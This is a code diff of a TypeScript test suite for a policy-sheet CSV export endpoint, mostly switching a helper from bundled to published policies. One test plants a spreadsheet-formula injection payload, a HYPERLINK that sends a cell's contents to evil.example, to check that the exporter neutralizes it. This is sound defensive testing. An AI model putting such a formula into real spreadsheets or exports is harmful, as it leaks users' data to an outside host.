@@ -10,7 +10,8 @@ import { createApp } from '../../functions/app.js';
 import { BundledPolicies } from '../../functions/policy-bundle.js';
 import type { Problem } from '../../functions/problem.js';
 import { KOSPET_RETURN } from './claims.js';
-import { bundledPolicy, call, emptyKv, freshApp, postJson, readJson } from './worker.js';
+import { publishedPolicy } from './published-policies.js';
+import { call, emptyKv, freshApp, postJson, readJson } from './worker.js';
 
 const READ_ROUTES = [
   '/healthz',
@@ -114,7 +115,7 @@ describe('GET /v1/brands/:brand/sheets/:sheet?format=csv', () => {
     expect(res.headers.get('content-type')).toBe('text/csv; charset=utf-8');
     expect(res.headers.get('content-disposition')).toBe('attachment; filename="kospet-services.csv"');
     const rows = parseCsv(await res.text());
-    const table = bundledPolicy('kospet').tables.find((t) => t.name === 'services')!;
+    const table = publishedPolicy('kospet').tables.find((t) => t.name === 'services')!;
     expect(rows).toHaveLength(table.rules.length + 1);
     expect(rows[0]![0]).toBe(table.hitPolicy);
     // S-FEEL's "-" (any) is among them: a spreadsheet shows it as typed.
@@ -123,7 +124,7 @@ describe('GET /v1/brands/:brand/sheets/:sheet?format=csv', () => {
   });
 
   it('neutralizes a formula an editor typed into a label', async () => {
-    const kospet = bundledPolicy('kospet');
+    const kospet = publishedPolicy('kospet');
     const sneaky = { ...kospet, remedies: kospet.remedies.map((r, i) => (i === 0 ? { ...r, label: '=HYPERLINK("http://evil.example/?x="&A1,"Refund")' } : r)) };
     const { request } = freshApp({ POLICIES: emptyKv }, { bundle: BundledPolicies.of({ kospet: sneaky }) });
     const rows = parseCsv(await (await request('/v1/brands/kospet/sheets/remedies?format=csv')).text());
